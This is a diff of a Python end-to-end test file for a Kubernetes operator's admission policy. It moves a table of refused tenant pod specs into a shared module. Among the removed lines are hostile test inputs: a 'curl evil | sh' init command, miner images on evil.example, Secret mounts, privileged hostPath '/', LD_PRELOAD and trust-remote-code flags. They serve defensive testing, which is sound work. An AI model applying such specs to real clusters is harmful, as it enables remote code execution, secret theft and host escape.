@@ -31,17 +31,16 @@ from typing import Any
 import pytest
 
 from e2e.cluster import LocalCluster
+from e2e.tenant_cases import ALICE_MAY_USE, MODEL, REFUSED, A, pod, sidecar
 from e2e.waits import wait_for
 from kvpilot.operator.api import DEFAULT_IMAGE
 
 ROOT = Path(__file__).resolve().parents[1]
 NS = "kvpilot-system"
 SA_USER = f"system:serviceaccount:{NS}:kvpilot"
-A, B = "tenant-a", "tenant-b"
+B = "tenant-b"
 POLICY = "ValidatingAdmissionPolicy 'kvpilot-inferenceservices'"
 ET_POLICY = "ValidatingAdmissionPolicy 'kvpilot-enginetuners'"
-MODEL = {"id": "meta-llama/Llama-3.1-8B-Instruct"}
-WHO = f"alice may not create pods in namespace {A}"
 
 
 class Tenants:
@@ -134,195 +133,6 @@ def t(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tenants]:
         cluster.stop()
 
 
-def _sidecar(**fields: Any) -> dict[str, Any]:
-    return {"name": "side", "image": DEFAULT_IMAGE, **fields}
-
-
-def _pod(**spec: Any) -> dict[str, Any]:
-    return {"model": MODEL, "template": {"spec": spec}}
-
-
-T = "spec.template.spec"
-REFUSED: dict[str, tuple[dict[str, Any], str]] = {
-    # ---- finding 1: spec.template
-    "sidecar-image": (
-        _pod(containers=[_sidecar(image="evil.example/miner:1")]),
-        f"{T}.containers[side].image evil.example/miner:1 not an allowed image",
-    ),
-    "init-image": (
-        _pod(initContainers=[_sidecar(image="evil.example/init:1")]),
-        f"{T}.initContainers[side].image evil.example/init:1 not an allowed image",
-    ),
-    "init-command": (
-        _pod(initContainers=[_sidecar(command=["sh", "-c", "curl evil | sh"])]),
-        f"{T}.initContainers[side].command: {WHO}",
-    ),
-    "exec-probe": (
-        _pod(containers=[_sidecar(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}})]),
-        f"{T}.containers[side].livenessProbe.exec",
-    ),
-    "image-volume": (
-        _pod(volumes=[{"name": "i", "image": {"reference": "evil.example/tools:1"}}]),
-        f"{T}.volumes[i].image evil.example/tools:1 not an allowed image",
-    ),
-    "secret-volume": (
-        _pod(volumes=[{"name": "s", "secret": {"secretName": "team-db"}}]),
-        f"{T}.volumes[s].secret names Secret team-db, which alice may not get",
-    ),
-    "env-from-secret": (
-        _pod(containers=[{"name": "vllm", "envFrom": [{"secretRef": {"name": "team-db"}}]}]),
-        f"{T}.containers[vllm].envFrom.secretRef names Secret team-db, which alice may not get",
-    ),
-    "sidecar-secret-key-ref": (
-        _pod(
-            containers=[
-                _sidecar(
-                    env=[{"name": "PW", "valueFrom": {"secretKeyRef": {"name": "team-db", "key": "token"}}}]
-                )
-            ]
-        ),
-        f"{T}.containers[side].env[PW].valueFrom.secretKeyRef names Secret team-db, which alice may not get",
-    ),
-    "projected-secret": (
-        _pod(volumes=[{"name": "p", "projected": {"sources": [{"secret": {"name": "team-db"}}]}}]),
-        f"{T}.volumes[p].projected.sources.secret names Secret team-db",
-    ),
-    "config-map-volume": (
-        _pod(volumes=[{"name": "c", "configMap": {"name": "kube-root-ca.crt"}}]),
-        f"{T}.volumes[c].configMap names ConfigMap kube-root-ca.crt, which alice may not get",
-    ),
-    "claim-volume": (
-        _pod(volumes=[{"name": "c", "persistentVolumeClaim": {"claimName": "team-data"}}]),
-        f"{T}.volumes[c].persistentVolumeClaim names PersistentVolumeClaim team-data",
-    ),
-    "image-pull-secret": (
-        _pod(imagePullSecrets=[{"name": "team-db"}]),
-        f"{T}.imagePullSecrets names Secret team-db",
-    ),
-    "host-path-privileged": (
-        _pod(
-            volumes=[{"name": "root", "hostPath": {"path": "/"}}],
-            containers=[{"name": "vllm", "securityContext": {"privileged": True}}],
-        ),
-        f"{T}.volumes[root].hostPath, {T}.containers[vllm].securityContext.privileged: {WHO}",
-    ),
-    "host-ipc": (_pod(hostIPC=True), f"{T}.hostIPC: {WHO}"),
-    "host-port": (
-        _pod(containers=[_sidecar(ports=[{"containerPort": 80, "hostPort": 80}])]),
-        f"{T}.containers[side].ports.hostPort",
-    ),
-    "capabilities": (
-        _pod(containers=[{"name": "vllm", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]),
-        f"{T}.containers[vllm].securityContext.capabilities.add",
-    ),
-    "escalation": (
-        _pod(containers=[{"name": "vllm", "securityContext": {"allowPrivilegeEscalation": True}}]),
-        f"{T}.containers[vllm].securityContext.allowPrivilegeEscalation",
-    ),
-    "seccomp-unconfined": (
-        _pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
-        f"{T}.securityContext.seccompProfile Unconfined",
-    ),
-    "csi-volume": (
-        _pod(volumes=[{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]),
-        f"{T}.volumes[c].csi",
-    ),
-    "service-account": (
-        _pod(serviceAccountName="cluster-admin-sa"),
-        f"{T}.serviceAccountName cluster-admin-sa (allowed: default): {WHO}",
-    ),
-    "projected-token": (
-        _pod(
-            volumes=[
-                {
-                    "name": "t",
-                    "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]},
-                }
-            ]
-        ),
-        f"{T}.volumes[t].projected.sources.serviceAccountToken: {WHO}",
-    ),
-    "priority-class": (
-        _pod(priorityClassName="system-cluster-critical"),
-        f"{T}.priorityClassName system-cluster-critical (allowed: none)",
-    ),
-    "runtime-class": (
-        _pod(runtimeClassName="kata-host"),
-        f"{T}.runtimeClassName kata-host (allowed: nvidia)",
-    ),
-    "scheduler": (_pod(schedulerName="my-scheduler"), f"{T}.schedulerName my-scheduler"),
-    "annotations": (
-        {
-            "model": MODEL,
-            "template": {"metadata": {"annotations": {"vault.hashicorp.com/agent-inject": "true"}}},
-        },
-        "spec.template.metadata.annotations vault.hashicorp.com/agent-inject not allowed",
-    ),
-    # ---- finding 3: storage.claimTemplate
-    "claim-template": (
-        {
-            "model": {
-                **MODEL,
-                "storage": {
-                    "claimTemplate": {
-                        "size": "1Pi",
-                        "accessMode": "ReadWriteMany",
-                        "storageClassName": "premium",
-                    }
-                },
-            }
-        },
-        "spec.model.storage.claimTemplate size 1Pi above 1Ti, accessMode ReadWriteMany (allowed: "
-        "ReadWriteOnce, ReadWriteOncePod), storageClassName premium (allowed: the default class)",
-    ),
-    "claim-template-unsized": (
-        {"model": {**MODEL, "checkpointBytes": 2**50, "storage": {"claimTemplate": {}}}},
-        "spec.model.storage.claimTemplate no size",
-    ),
-    # ---- finding 4: code-running arguments and environment
-    "trust-remote-code": (
-        {"model": {"id": "alice/backdoored-model"}, "engine": {"extraArgs": ["--trust-remote-code"]}},
-        "spec.engine.extraArgs --trust-remote-code would load code",
-    ),
-    "trust-remote-code-spelt": (
-        {"model": MODEL, "engine": {"extraArgs": ["--trust_remote_code=true"]}},
-        "spec.engine.extraArgs --trust-remote-code would load code",
-    ),
-    "trust-remote-code-prefix": (
-        {"model": MODEL, "engine": {"extraArgs": ["--trust-remote"]}},
-        "spec.engine.extraArgs --trust-remote would load code",
-    ),
-    "worker-extension": (
-        {"model": MODEL, "engine": {"extraArgs": ["--worker-extension-cls", "evil.Ext"]}},
-        "spec.engine.extraArgs --worker-extension-cls",
-    ),
-    "tool-parser-plugin": (
-        {"model": MODEL, "engine": {"extraArgs": ["--tool-parser-plugin=/models/p.py"]}},
-        "spec.engine.extraArgs --tool-parser-plugin",
-    ),
-    "kv-connector-module": (
-        {"model": MODEL, "engine": {"extraArgs": ["--kv-transfer-config.kv_connector_module_path=evil"]}},
-        "spec.engine.extraArgs --kv-transfer-config",
-    ),
-    "ld-preload": (
-        {"model": MODEL, "engine": {"env": [{"name": "LD_PRELOAD", "value": "/models/x.so"}]}},
-        "spec.engine.env LD_PRELOAD would load code into the pod",
-    ),
-    "pythonpath": (
-        {"model": MODEL, "engine": {"env": [{"name": "PYTHONPATH", "value": "/models"}]}},
-        "spec.engine.env PYTHONPATH would load code",
-    ),
-    "vllm-plugins": (
-        {"model": MODEL, "engine": {"env": [{"name": "VLLM_PLUGINS", "value": "evil"}]}},
-        "spec.engine.env VLLM_PLUGINS would load code",
-    ),
-    "sidecar-ld-library-path": (
-        _pod(containers=[_sidecar(env=[{"name": "LD_LIBRARY_PATH", "value": "/x"}])]),
-        f"{T}.containers[side].env LD_LIBRARY_PATH would load code",
-    ),
-}
-
-
 @pytest.mark.parametrize("case", sorted(REFUSED))
 def test_refused_for_a_user_with_only_the_charts_roles(t: Tenants, case: str) -> None:
     spec, message = REFUSED[case]
@@ -339,47 +149,13 @@ def test_the_same_spec_from_a_pod_creator_is_admitted(t: Tenants, case: str) -> 
 
 
 def test_what_alice_may_use_is_admitted(t: Tenants) -> None:
-    spec = {
-        "model": {
-            **MODEL,
-            "source": "Hub",
-            "hubTokenSecretRef": {"name": "hf-alice"},
-            "storage": {"claimTemplate": {"size": "200Gi", "accessMode": "ReadWriteOnce"}},
-        },
-        "engine": {
-            "extraArgs": ["--no-trust-remote-code", "--reasoning-parser", "deepseek_r1", "--model-impl=vllm"],
-            "env": [{"name": "PYTHONUNBUFFERED", "value": "1"}],
-        },
-        "template": {
-            "metadata": {"annotations": {"kubectl.kubernetes.io/default-container": "vllm"}},
-            "spec": {
-                "runtimeClassName": "nvidia",
-                "serviceAccountName": "default",
-                "containers": [
-                    _sidecar(
-                        env=[
-                            {"name": "T", "valueFrom": {"secretKeyRef": {"name": "hf-alice", "key": "token"}}}
-                        ]
-                    )
-                ],
-                "volumes": [
-                    {"name": "hf", "secret": {"secretName": "hf-alice"}},
-                    {"name": "scratch", "emptyDir": {}},
-                    {
-                        "name": "info",
-                        "downwardAPI": {"items": [{"path": "n", "fieldRef": {"fieldPath": "metadata.name"}}]},
-                    },
-                ],
-            },
-        },
-    }
-    proc = t.create_as("alice", spec, "alice-fine")
+    proc = t.create_as("alice", ALICE_MAY_USE, "alice-fine")
     assert proc.returncode == 0, proc.stderr
 
 
 def test_a_template_added_by_update_is_refused(t: Tenants) -> None:
     assert t.create_as("alice", {"model": MODEL}, "alice-update").returncode == 0
-    patch = {"spec": {"template": {"spec": {"containers": [_sidecar(image="evil.example/miner:2")]}}}}
+    patch = {"spec": {"template": {"spec": {"containers": [sidecar(image="evil.example/miner:2")]}}}}
     proc = t.kubectl(
         "--as=alice",
         "-n",
@@ -423,7 +199,7 @@ SCHEMA: dict[str, tuple[str, dict[str, Any], str]] = {
     ),
     "sidecar-image-space": (
         "sp4",
-        _pod(containers=[_sidecar(image="evil latest")]),
+        pod(containers=[sidecar(image="evil latest")]),
         "spec.template.spec.containers[0].image",
     ),
     "serve-later": (
@@ -438,12 +214,12 @@ SCHEMA: dict[str, tuple[str, dict[str, Any], str]] = {
     ),
     "mb-args": (
         "big2",
-        _pod(containers=[_sidecar(args=["a" * 500] * 2400)]),
+        pod(containers=[sidecar(args=["a" * 500] * 2400)]),
         "spec.template.spec.containers[0].args: Too many: 2400: must have at most 32 items",
     ),
     "mb-env-value": (
         "big3",
-        _pod(containers=[_sidecar(env=[{"name": "X", "value": "a" * 1_200_000}])]),
+        pod(containers=[sidecar(env=[{"name": "X", "value": "a" * 1_200_000}])]),
         "spec.template.spec.containers[0].env[0].value: Too long",
     ),
 }
@@ -564,7 +340,7 @@ def _at_the_bounds(secrets: int) -> dict[str, Any]:
         }
         for k in range(32)
     ]
-    return _pod(
+    return pod(
         containers=[container(f"c{j}") for j in range(8)],
         initContainers=[container(f"i{j}") for j in range(8)],
         volumes=volumes,
@@ -688,5 +464,11 @@ def test_notes_warn_when_the_policy_is_off(t: Tenants) -> None:
         "--set",
         "admissionPolicy.enabled=false",
     )
-    assert "WARNING" in notes and "admissionPolicy.enabled=false" in notes, notes
+    # the operator enforces instead (e2e/test_operator_enforcement.py), and the notes say so
+    assert "admissionPolicy.operatorEnforcement=Strict: no admission policy runs" in notes, notes
     assert t.kubectl("get", "validatingadmissionpolicies", "-o", "name").stdout.strip() == ""
+    notes = t.helm(
+        "upgrade", "kvpilot", "charts/kvpilot", "--namespace", NS, "--reuse-values",
+        "--set", "admissionPolicy.operatorEnforcement=Off",
+    )  # fmt: skip
+    assert "WARNING" in notes and "admissionPolicy.enabled=false" in notes, notes
